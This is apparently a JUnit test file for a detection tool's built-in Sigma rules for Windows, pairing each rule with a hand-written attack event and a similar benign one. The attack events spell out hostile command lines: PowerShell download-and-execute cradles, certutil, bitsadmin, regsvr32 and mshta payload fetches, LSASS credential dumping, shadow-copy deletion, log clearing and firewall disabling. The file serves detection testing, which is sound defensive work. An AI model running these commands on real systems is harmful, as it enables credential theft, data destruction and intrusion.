package dev.vigil.attack.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.attack.AttackCatalogue;
import dev.vigil.attack.Detection;
import dev.vigil.attack.DetectionRule;
import dev.vigil.attack.InstalledCatalogue;
import dev.vigil.attack.Technique;
import dev.vigil.attack.TechniqueId;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;
import org.yaml.snakeyaml.constructor.SafeConstructor;

/**
 * Vigil's own Sigma rules: they all load, the index lists exactly the files, each carries the metadata an
 * analyst needs with ATT&amp;CK tags that exist, and each fires on a hand-written attack event and stays
 * quiet on a close benign one.
 */
class BuiltinRulesTest {

    static final Path SOURCE_DIR = Path.of("src/main/resources/detection/builtin");

    static SigmaRules rules;

    /** Built-in rule file name to its parsed YAML. */
    static Map<String, Map<String, Object>> documents;

    @BeforeAll
    static void load() throws IOException {
        rules = SigmaRules.load(true, List.of());
        documents = new TreeMap<>();
        for (String name : indexed()) {
            String text = resource(SigmaRules.BUILTIN + name);
            documents.put(name, new Yaml(new SafeConstructor(new LoaderOptions())).load(text));
        }
    }

    @Test
    void everyBuiltinLoadsWithoutProblems() {
        assertThat(rules.problems()).isEmpty();
        assertThat(rules.size()).isEqualTo(indexed().size()).isGreaterThanOrEqualTo(20);
    }

    @Test
    void theIndexListsExactlyTheRuleFilesOnDisk() throws IOException {
        Set<String> onDisk;
        try (Stream<Path> files = Files.list(SOURCE_DIR)) {
            onDisk = files.map(p -> p.getFileName().toString())
                    .filter(n -> !n.equals("index.txt"))
                    .collect(TreeSet::new, Set::add, Set::addAll);
        }
        List<String> indexed = indexed();
        assertThat(indexed).doesNotHaveDuplicates();
        assertThat(new TreeSet<>(indexed)).isEqualTo(onDisk);
        assertThat(onDisk).allMatch(n -> n.endsWith(".yml"), "rule files end in .yml");
    }

    @Test
    void everyRuleCarriesTheMetadataAnAnalystNeeds() {
        Set<String> ids = new HashSet<>();
        Set<String> titles = new HashSet<>();
        documents.forEach((name, doc) -> {
            String title = (String) doc.get("title");
            assertThat(title).as("%s title", name).isNotBlank();
            assertThat(titles.add(title)).as("%s title unique", name).isTrue();
            String id = (String) doc.get("id");
            assertThat(UUID.fromString(id).toString())
                    .as("%s id is a UUID", name)
                    .isEqualTo(id);
            assertThat(ids.add(id)).as("%s id unique", name).isTrue();
            assertThat(doc.get("status")).as("%s status", name).isIn("stable", "test");
            assertThat((String) doc.get("description"))
                    .as("%s description", name)
                    .hasSizeGreaterThan(80);
            assertThat(doc.get("author")).as("%s author", name).isEqualTo("Vigil");
            // YAML would read the date as a timestamp; the file must spell it as Sigma does
            assertThat(resource(SigmaRules.BUILTIN + name))
                    .as("%s date", name)
                    .containsPattern("(?m)^date: \\d{4}-\\d{2}-\\d{2}$");
            assertThat(doc.get("level")).as("%s level", name).isIn("low", "medium", "high", "critical");
            assertThat((List<?>) doc.get("falsepositives"))
                    .as("%s falsepositives", name)
                    .isNotEmpty();
            assertThat(((Map<?, ?>) doc.get("logsource")).get("product"))
                    .as("%s logsource", name)
                    .isEqualTo("windows");
            assertThat(doc).as("%s", name).containsKey("detection");
        });
    }

    @Test
    void everyRuleIsTaggedWithActiveTechniquesAndTheirTactics() throws IOException {
        AttackCatalogue catalogue = InstalledCatalogue.shipped();
        for (DetectionRule rule : detectionRules()) {
            assertThat(rule.techniques()).as("%s techniques", rule.title()).isNotEmpty();
            Set<String> tactics = new TreeSet<>();
            for (String tag : rule.tags()) {
                assertThat(tag).as("%s tag", rule.title()).matches("attack\\.(t\\d{4}(\\.\\d{3})?|[a-z_]+)");
                if (!tag.matches("attack\\.t\\d.*")) {
                    tactics.add(tag.substring("attack.".length()).replace('_', '-'));
                }
            }
            Set<String> covered = new TreeSet<>();
            for (String id : rule.techniques()) {
                Technique t = catalogue.find(new TechniqueId(id)).orElse(null);
                assertThat(t).as("%s: %s in ATT&CK", rule.title(), id).isNotNull();
                assertThat(t.isActive())
                        .as("%s: %s is current", rule.title(), id)
                        .isTrue();
                assertThat(t.tactics())
                        .as("%s: %s is under one of the rule's tactics %s", rule.title(), id, tactics)
                        .containsAnyElementsOf(tactics);
                covered.addAll(t.tactics());
            }
            assertThat(covered)
                    .as("%s: every tactic tag belongs to a tagged technique", rule.title())
                    .containsAll(tactics);
        }
    }

    // --- each rule on an attack event and on a close benign one ---------------------------------------

    /** A rule file, an event it must flag and a similar benign one it must leave alone. */
    record Case(String rule, String why, String attack, String benign) {
        @Override
        public String toString() {
            return rule + ": " + why;
        }
    }

    static List<Case> cases() {
        List<Case> c = new ArrayList<>();
        c.add(new Case(
                "win_proc_powershell_encoded_command.yml",
                "-enc versus -ExecutionPolicy/-File",
                sysmon1(PS, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", EXPLORER),
                sysmon1(PS, "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1", EXPLORER)));
        c.add(new Case(
                "win_proc_powershell_encoded_command.yml",
                "Security 4688, slash form /EncodedCommand",
                sec4688(PS, "\"powershell.exe\" /EncodedCommand ZQBjAGgAbwAgAGgAaQA=", CMD),
                sec4688(PS, "\"powershell.exe\" /NoProfile /Command Get-Date", CMD)));
        c.add(new Case(
                "win_proc_powershell_encoded_command.yml",
                "en dash and the short -e",
                sysmon1(PS, "powershell \u2013e JABzAD0A", EXPLORER),
                sysmon1("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c echo -enc test", EXPLORER)));
        c.add(new Case(
                "win_proc_powershell_download_cradle.yml",
                "IEX of DownloadString versus a plain DownloadFile",
                sysmon1(
                        PS,
                        "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')\"",
                        CMD),
                sysmon1(
                        PS,
                        "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://example.org/t.zip','C:\\t.zip')\"",
                        CMD)));
        c.add(new Case(
                "win_proc_powershell_download_cradle.yml",
                "iwr piped to iex, in Security 4688",
                sec4688(PS, "powershell -c \"iwr http://10.1.2.3/s.ps1 -UseBasicParsing | iex\"", CMD),
                sec4688(PS, "powershell -c \"Confirm-SecureBootUEFI | Out-File C:\\t.txt\"", CMD)));
        c.add(new Case(
                "win_ps_script_download_cradle.yml",
                "script block evaluating a downloaded string",
                event(
                        POWERSHELL,
                        4104,
                        "ScriptBlockText",
                        "$u='http://10.1.2.3/p';IEX (iwr $u -UseBasicParsing).Content"),
                event(
                        POWERSHELL,
                        4104,
                        "ScriptBlockText",
                        "Invoke-WebRequest -Uri https://example.org/f.zip -OutFile C:\\f.zip")));
        c.add(new Case(
                "win_proc_access_lsass_memory_read.yml",
                "unknown process with VM_READ versus WmiPrvSE",
                access("C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe", LSASS, "0x1010", NTDLL_STACK),
                access("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", LSASS, "0x1410", NTDLL_STACK)));
        c.add(new Case(
                "win_proc_access_lsass_memory_read.yml",
                "full access versus query-only access",
                access("C:\\Tools\\dumper.exe", LSASS, "0x1FFFFF", NTDLL_STACK),
                access("C:\\Tools\\dumper.exe", LSASS, "0x1000", NTDLL_STACK)));
        c.add(new Case(
                "win_proc_access_lsass_memory_read.yml",
                "a dump call stack, even from a filtered process, versus the same on another target",
                access("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", LSASS, "0x1410", DUMP_STACK),
                access("C:\\Tools\\dumper.exe", "C:\\Windows\\System32\\svchost.exe", "0x1fffff", DUMP_STACK)));
        c.add(new Case(
                "win_proc_lsass_dump_comsvcs.yml",
                "ordinal #24 versus #240",
                sysmon1(RUNDLL32, "rundll32.exe C:\\windows\\System32\\comsvcs.dll, #24 624 C:\\t\\o.dmp full", PS),
                sysmon1(RUNDLL32, "rundll32.exe C:\\windows\\System32\\comsvcs.dll, #240 624 C:\\t\\o.dmp full", PS)));
        c.add(new Case(
                "win_proc_lsass_dump_comsvcs.yml",
                "MiniDump by name in Security 4688 versus another comsvcs export",
                sec4688(RUNDLL32, "rundll32 comsvcs.dll MiniDump 624 C:\\t\\o.dmp full", PS),
                sec4688(RUNDLL32, "rundll32 comsvcs.dll,DllRegisterServer", PS)));
        c.add(new Case(
                "win_proc_procdump_lsass.yml",
                "procdump on lsass versus procdump on w3wp",
                sysmon1("C:\\Tools\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe C:\\t\\l.dmp", CMD),
                sysmon1("C:\\Tools\\procdump64.exe", "procdump64.exe -accepteula -ma w3wp.exe C:\\t\\w.dmp", CMD)));
        c.add(new Case(
                "win_proc_procdump_lsass.yml",
                "a renamed procdump keeps its switches; a tool merely naming lsass does not",
                sysmon1("C:\\Users\\Public\\pd.exe", "pd.exe /ma lsass.exe out.dmp", CMD),
                sysmon1("C:\\Windows\\System32\\tasklist.exe", "tasklist /fi \"imagename eq lsass.exe\"", CMD)));
        c.add(new Case(
                "win_file_lsass_dump_written.yml",
                "lsass dump file versus another dump",
                file("C:\\Windows\\System32\\rundll32.exe", "C:\\Users\\bob\\AppData\\Local\\Temp\\lsass.DMP"),
                file("C:\\Windows\\System32\\WerFault.exe", "C:\\Windows\\Temp\\w3wp.dmp")));
        c.add(new Case(
                "win_proc_shadow_copy_deletion.yml",
                "vssadmin delete versus list",
                sysmon1("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", CMD),
                sysmon1("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe list shadows", CMD)));
        c.add(new Case(
                "win_proc_shadow_copy_deletion.yml",
                "bcdedit disabling recovery versus setting a timeout",
                sec4688("C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled No", CMD),
                sec4688("C:\\Windows\\System32\\bcdedit.exe", "bcdedit /timeout 10", CMD)));
        c.add(new Case(
                "win_proc_shadow_copy_deletion.yml",
                "wmic and PowerShell deleting shadow copies versus listing them",
                sysmon1("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic shadowcopy delete /nointeractive", CMD),
                sysmon1(PS, "powershell Get-WmiObject Win32_ShadowCopy | Select-Object ID", CMD)));
        c.add(new Case(
                "win_security_audit_log_cleared.yml",
                "1102 versus 1100 (event service shut down)",
                event("Security", 1102, "SubjectUserName", "bob"),
                event("Security", 1100)));
        c.add(new Case(
                "win_system_event_log_cleared.yml",
                "System 104 from the event-log service versus another 104",
                event("System", 104, "Provider_Name", "Microsoft-Windows-Eventlog"),
                event("System", 104, "Provider_Name", "Microsoft-Windows-Kernel-Power")));
        c.add(new Case(
                "win_proc_event_log_clearing_tool.yml",
                "wevtutil cl versus wevtutil qe",
                sysmon1("C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security", CMD),
                sysmon1("C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe qe Security /c:5 /f:text", CMD)));
        c.add(new Case(
                "win_proc_event_log_clearing_tool.yml",
                "Clear-EventLog versus Get-EventLog",
                sysmon1(PS, "powershell -c Clear-EventLog -LogName Application,System", CMD),
                sysmon1(PS, "powershell -c Get-EventLog -LogName System -Newest 10", CMD)));
        c.add(new Case(
                "win_system_service_install_suspicious_path.yml",
                "smbexec-style %COMSPEC% service versus a program under Program Files",
                event(
                        "System",
                        7045,
                        "ServiceName",
                        "BTOBTO",
                        "ImagePath",
                        "%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"),
                event(
                        "System",
                        7045,
                        "ServiceName",
                        "VendorAgent",
                        "ImagePath",
                        "\"C:\\Program Files\\Vendor\\agent.exe\" -service")));
        c.add(new Case(
                "win_system_service_install_suspicious_path.yml",
                "binary on ADMIN$ versus a driver in System32",
                event("System", 7045, "ServiceName", "xyzsvc", "ImagePath", "\\\\10.1.2.3\\ADMIN$\\xyzsvc.exe"),
                event("System", 7045, "ServiceName", "npcap", "ImagePath", "System32\\drivers\\npcap.sys")));
        c.add(new Case(
                "win_proc_schtasks_create_remote.yml",
                "/create with /S versus /create with /SC and /ST",
                sysmon1(
                        SCHTASKS,
                        "schtasks /create /s 10.1.2.7 /u CORP\\adm /tn Upd /tr C:\\Windows\\Temp\\u.exe /sc once /st 00:00",
                        CMD),
                sysmon1(SCHTASKS, "schtasks /create /tn Backup /tr C:\\Tools\\backup.exe /sc daily /st 02:00", CMD)));
        c.add(new Case(
                "win_proc_schtasks_create_remote.yml",
                "dash spelling versus a remote query",
                sec4688(SCHTASKS, "schtasks.exe -create -S srv01 -tn x -tr c:\\x.exe -sc onstart", CMD),
                sec4688(SCHTASKS, "schtasks.exe /query /s srv01", CMD)));
        c.add(new Case(
                "win_proc_schtasks_create_shell_action.yml",
                "task running PowerShell from Users\\Public versus a program under Program Files",
                sysmon1(
                        SCHTASKS,
                        "schtasks /create /tn Upd /tr \"powershell -w hidden -f C:\\Users\\Public\\u.ps1\" /sc onlogon",
                        CMD),
                sysmon1(
                        SCHTASKS,
                        "schtasks /create /tn Backup /tr \"C:\\Program Files\\Backup\\backup.exe\" /sc daily",
                        CMD)));
        c.add(new Case(
                "win_security_scheduled_task_registered_remotely.yml",
                "client process 0 versus a local schtasks process",
                task4698("0", "0", "0"),
                task4698("4312", "812", "0")));
        c.add(new Case(
                "win_proc_net_local_admins_discovery.yml",
                "listing versus adding a member",
                sysmon1(NET, "net localgroup administrators", PS),
                sysmon1(NET, "net localgroup administrators eve /add", PS)));
        c.add(new Case(
                "win_proc_net_local_admins_discovery.yml",
                "net1 run directly versus the net1 that net.exe starts",
                sec4688(NET1, "net1 localgroup Administrators", PS),
                sec4688(NET1, "net1 localgroup Administrators", NET)));
        c.add(new Case(
                "win_proc_net_domain_admins_discovery.yml",
                "Domain Admins versus an ordinary group",
                sysmon1(NET, "net group \"Domain Admins\" /domain", CMD),
                sysmon1(NET, "net group \"Marketing\" /domain", CMD)));
        c.add(new Case(
                "win_proc_powerview_recon_cmdlet.yml",
                "PowerView verb versus the ActiveDirectory module",
                sysmon1(PS, "powershell -c \"Import-Module .\\pv.ps1; Get-DomainGroupMember 'Domain Admins'\"", CMD),
                sysmon1(PS, "powershell -c \"Get-ADGroupMember 'Domain Admins'\"", CMD)));
        c.add(new Case(
                "win_proc_mshta_inline_script_or_url.yml",
                "inline javascript versus a local .hta",
                sysmon1(
                        MSHTA,
                        "mshta.exe javascript:a=GetObject(\"script:https://x.example/p.sct\").Exec();close();",
                        EXPLORER),
                sysmon1(MSHTA, "mshta.exe \"C:\\Program Files\\App\\setup.hta\"", EXPLORER)));
        c.add(new Case(
                "win_proc_mshta_spawns_shell.yml",
                "mshta starting PowerShell versus explorer starting it",
                sysmon1(PS, "powershell -noexit -command Get-Service", MSHTA),
                sysmon1(PS, "powershell -noexit -command Get-Service", EXPLORER)));
        c.add(new Case(
                "win_proc_bitsadmin_transfer.yml",
                "/transfer versus /list",
                sysmon1(
                        BITSADMIN,
                        "bitsadmin /transfer job /download /priority high http://x.example/a.exe C:\\t\\a.exe",
                        CMD),
                sysmon1(BITSADMIN, "bitsadmin /list /allusers /verbose", CMD)));
        c.add(new Case(
                "win_proc_bitsadmin_transfer.yml",
                "notify command versus job info",
                sec4688(BITSADMIN, "bitsadmin /SetNotifyCmdLine job C:\\Users\\Public\\p.exe NULL", CMD),
                sec4688(BITSADMIN, "bitsadmin /info job /verbose", CMD)));
        c.add(new Case(
                "win_proc_certutil_download_or_decode.yml",
                "-urlcache download versus clearing the cache",
                sysmon1(CERTUTIL, "certutil.exe -urlcache -split -f http://x.example/a.exe a.exe", CMD),
                sysmon1(CERTUTIL, "certutil.exe -urlcache * delete", CMD)));
        c.add(new Case(
                "win_proc_certutil_download_or_decode.yml",
                "/decode versus /hashfile",
                sec4688(CERTUTIL, "certutil /decode C:\\t\\p.txt C:\\t\\p.exe", CMD),
                sec4688(CERTUTIL, "certutil /hashfile C:\\t\\p.exe SHA256", CMD)));
        c.add(new Case(
                "win_proc_netsh_firewall_opened.yml",
                "allow rule versus block rule",
                sysmon1(
                        NETSH,
                        "netsh  advfirewall firewall add rule name=\"t\" action=allow dir=in protocol=TCP localport=450",
                        CMD),
                sysmon1(
                        NETSH,
                        "netsh  advfirewall firewall add rule name=\"t\" action=block dir=out protocol=TCP remoteport=450",
                        CMD)));
        c.add(new Case(
                "win_proc_netsh_firewall_opened.yml",
                "legacy port opening and turning it off versus showing the state",
                sec4688(NETSH, "netsh firewall add portopening TCP 4444 \"svc\"", CMD),
                sec4688(NETSH, "netsh advfirewall show allprofiles state", CMD)));
        c.add(new Case(
                "win_proc_netsh_firewall_opened.yml",
                "turning the firewall off versus on",
                sysmon1(NETSH, "netsh advfirewall set allprofiles state off", CMD),
                sysmon1(NETSH, "netsh advfirewall set allprofiles state on", CMD)));
        c.add(new Case(
                "win_proc_rundll32_script_or_proxy_export.yml",
                "RunHTMLApplication versus a control-panel applet",
                sysmon1(RUNDLL32, "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", EXPLORER),
                sysmon1(RUNDLL32, "rundll32.exe shell32.dll,Control_RunDLL desk.cpl", EXPLORER)));
        c.add(new Case(
                "win_proc_rundll32_script_or_proxy_export.yml",
                "FileProtocolHandler on a local program versus on a web link",
                sec4688(RUNDLL32, "rundll32.exe url.dll,FileProtocolHandler C:\\Users\\Public\\p.exe", EXPLORER),
                sec4688(RUNDLL32, "rundll32.exe url.dll,FileProtocolHandler https://intranet.example/help", EXPLORER)));
        c.add(new Case(
                "win_proc_regsvr32_scriptlet.yml",
                "remote scriptlet versus registering a DLL",
                sysmon1(REGSVR32, "regsvr32 /s /n /u /i:http://x.example/f.sct scrobj.dll", CMD),
                sysmon1(REGSVR32, "regsvr32 /s \"C:\\Program Files\\App\\component.dll\"", CMD)));
        c.add(new Case(
                "win_security_admin_share_executable_write.yml",
                "writing an exe to C$ versus reading one",
                share5145("\\\\*\\C$", "ProgramData\\GruntHTTP.exe", "%%4417\n\t\t\t\t"),
                share5145("\\\\*\\C$", "ProgramData\\GruntHTTP.exe", "%%4416\n\t\t\t\t")));
        c.add(new Case(
                "win_security_admin_share_executable_write.yml",
                "ADMIN$ versus a normal share",
                share5145("\\\\*\\ADMIN$", "PSEXESVC.exe", "%%4417\n\t\t\t\t"),
                share5145("\\\\*\\Software", "setup.exe", "%%4417\n\t\t\t\t")));
        c.add(new Case(
                "win_file_executable_written_by_smb_server.yml",
                "System writing an exe versus System writing an ETW log",
                file("System", "C:\\ProgramData\\GruntHTTP.exe"),
                file("System", "C:\\Windows\\System32\\LogFiles\\WMI\\RtBackup\\x.etl")));
        c.add(new Case(
                "win_security_member_added_to_admin_group.yml",
                "Administrators versus Remote Desktop Users",
                event("Security", 4732, "TargetSid", "S-1-5-32-544", "TargetUserName", "Administrators"),
                event("Security", 4732, "TargetSid", "S-1-5-32-555", "TargetUserName", "Remote Desktop Users")));
        c.add(new Case(
                "win_security_member_added_to_admin_group.yml",
                "Domain Admins versus Domain Users",
                event("Security", 4728, "TargetSid", "S-1-5-21-1-2-3-512", "TargetUserName", "Domain Admins"),
                event("Security", 4728, "TargetSid", "S-1-5-21-1-2-3-513", "TargetUserName", "Domain Users")));
        c.add(new Case(
                "win_proc_office_spawns_shell.yml",
                "Word starting PowerShell versus Word starting the print helper",
                sysmon1(PS, "powershell -w hidden -c whoami", WINWORD),
                sysmon1("C:\\Windows\\splwow64.exe", "splwow64.exe 8192", WINWORD)));
        c.add(new Case(
                "win_registry_run_key_user_writable_path.yml",
                "Run value into AppData versus into Program Files",
                registry(
                        "HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                        "C:\\Users\\bob\\AppData\\Roaming\\upd.exe"),
                registry(
                        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Vendor",
                        "\"C:\\Program Files\\Vendor\\tray.exe\"")));
        c.add(new Case(
                "win_registry_run_key_user_writable_path.yml",
                "Run value into Temp versus OneDrive's own updater",
                registry(
                        "HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x",
                        "%TEMP%\\x.exe /s"),
                registry(
                        "HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
                        "\"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background")));
        return c;
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void firesOnTheAttackAndNotOnTheBenignCounterpart(Case c) {
        String id = id(c.rule());
        assertThat(ids(c.attack())).as("attack event: %s", c.attack()).contains(id);
        assertThat(ids(c.benign())).as("benign event: %s", c.benign()).doesNotContain(id);
    }

    @Test
    void everyRuleHasAnAttackAndABenignCase() {
        Set<String> tested = new TreeSet<>();
        cases().forEach(c -> tested.add(c.rule()));
        assertThat(tested).isEqualTo(new TreeSet<>(indexed()));
    }

    @Test
    void theDetectionExplainsWhichFieldsMatched() {
        List<Detection> detections = rules.detect(
                SigmaEvents.windows(sysmon1(RUNDLL32, "rundll32 comsvcs.dll MiniDump 624 C:\\t\\o.dmp full", PS)));
        Detection comsvcs = detections.stream()
                .filter(d -> d.rule().id().equals(id("win_proc_lsass_dump_comsvcs.yml")))
                .findFirst()
                .orElseThrow();
        assertThat(comsvcs.rule().level()).isEqualTo("critical");
        assertThat(comsvcs.rule().techniques()).containsExactly("T1003.001");
        assertThat(comsvcs.reason()).contains("Image").contains("CommandLine").contains("minidump");
    }

    // --- helpers -------------------------------------------------------------------------------------

    static final String SYSMON = "Microsoft-Windows-Sysmon/Operational";
    static final String POWERSHELL = "Microsoft-Windows-PowerShell/Operational";
    static final String PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    static final String CMD = "C:\\Windows\\System32\\cmd.exe";
    static final String EXPLORER = "C:\\Windows\\explorer.exe";
    static final String RUNDLL32 = "C:\\Windows\\System32\\rundll32.exe";
    static final String REGSVR32 = "C:\\Windows\\System32\\regsvr32.exe";
    static final String MSHTA = "C:\\Windows\\System32\\mshta.exe";
    static final String SCHTASKS = "C:\\Windows\\System32\\schtasks.exe";
    static final String NET = "C:\\Windows\\System32\\net.exe";
    static final String NET1 = "C:\\Windows\\System32\\net1.exe";
    static final String NETSH = "C:\\Windows\\System32\\netsh.exe";
    static final String BITSADMIN = "C:\\Windows\\System32\\bitsadmin.exe";
    static final String CERTUTIL = "C:\\Windows\\System32\\certutil.exe";
    static final String WINWORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    static final String LSASS = "C:\\Windows\\system32\\lsass.exe";
    static final String NTDLL_STACK =
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+305fe";
    static final String DUMP_STACK =
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\SYSTEM32\\dbgcore.DLL+9447|C:\\Windows\\System32\\comsvcs.dll+3c684";

    static String sysmon1(String image, String commandLine, String parentImage) {
        return event(SYSMON, 1, "Image", image, "CommandLine", commandLine, "ParentImage", parentImage);
    }

    static String sec4688(String image, String commandLine, String parentImage) {
        return event(
                "Security",
                4688,
                "NewProcessName",
                image,
                "CommandLine",
                commandLine,
                "ParentProcessName",
                parentImage);
    }

    static String access(String source, String target, String access, String callTrace) {
        return event(
                SYSMON,
                10,
                "SourceImage",
                source,
                "TargetImage",
                target,
                "GrantedAccess",
                access,
                "CallTrace",
                callTrace);
    }

    static String file(String image, String target) {
        return event(SYSMON, 11, "Image", image, "TargetFilename", target);
    }

    static String registry(String key, String details) {
        return event(
                SYSMON,
                13,
                "EventType",
                "SetValue",
                "Image",
                "C:\\Users\\bob\\AppData\\Local\\Temp\\i.exe",
                "TargetObject",
                key,
                "Details",
                details);
    }

    static String task4698(String clientProcessId, String parentProcessId, String locality) {
        return event(
                "Security",
                4698,
                "TaskName",
                "\\Microsoft\\Windows\\Upd",
                "TaskContent",
                "<Task><Actions><Exec><Command>C:\\Windows\\system32\\cmd.exe</Command></Exec></Actions></Task>",
                "ClientProcessId",
                clientProcessId,
                "ParentProcessId",
                parentProcessId,
                "RpcCallClientLocality",
                locality);
    }

    static String share5145(String share, String relative, String accessList) {
        return event(
                "Security",
                5145,
                "ShareName",
                share,
                "RelativeTargetName",
                relative,
                "AccessList",
                accessList,
                "IpAddress",
                "10.1.2.5",
                "SubjectUserName",
                "bob");
    }

    /** A flat OTRF-style Windows event: channel, event id, then field names and values. */
    static String event(String channel, int eventId, String... fields) {
        Map<String, Object> map = new LinkedHashMap<>();
        map.put("Channel", channel);
        map.put("EventID", eventId);
        map.put("Hostname", "WS01.corp.example");
        for (int i = 0; i < fields.length; i += 2) {
            map.put(fields[i], fields[i + 1]);
        }
        StringBuilder json = new StringBuilder("{");
        map.forEach((k, v) -> {
            if (json.length() > 1) {
                json.append(',');
            }
            json.append(quote(k)).append(':').append(v instanceof Integer ? v.toString() : quote((String) v));
        });
        return json.append('}').toString();
    }

    static String quote(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char ch : s.toCharArray()) {
            switch (ch) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                case '\n' -> b.append("\\n");
                case '\t' -> b.append("\\t");
                case '\r' -> b.append("\\r");
                default -> {
                    if (ch < 0x20) {
                        b.append(String.format(Locale.ROOT, "\\u%04x", (int) ch));
                    } else {
                        b.append(ch);
                    }
                }
            }
        }
        return b.append('"').toString();
    }

    static Set<String> ids(String json) {
        SigmaEvent event = SigmaEvents.windows(json);
        assertThat(event).as("routable event %s", json).isNotNull();
        Set<String> ids = new TreeSet<>();
        rules.detect(event).forEach(d -> ids.add(d.rule().id()));
        return ids;
    }

    static String id(String file) {
        Map<String, Object> doc = documents.get(file);
        assertThat(doc).as("built-in rule %s", file).isNotNull();
        return (String) doc.get("id");
    }

    static List<DetectionRule> detectionRules() {
        List<DetectionRule> all = new ArrayList<>();
        for (String name : indexed()) {
            all.add(RuleReader.read(resource(SigmaRules.BUILTIN + name), "builtin:" + name)
                    .rule());
        }
        return all;
    }

    static List<String> indexed() {
        return resource(SigmaRules.BUILTIN + "index.txt")
                .lines()
                .map(String::strip)
                .filter(l -> !l.isEmpty() && !l.startsWith("#"))
                .toList();
    }

    static String resource(String name) {
        try (InputStream in = BuiltinRulesTest.class.getClassLoader().getResourceAsStream(name)) {
            assertThat(in).as("class-path resource %s", name).isNotNull();
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
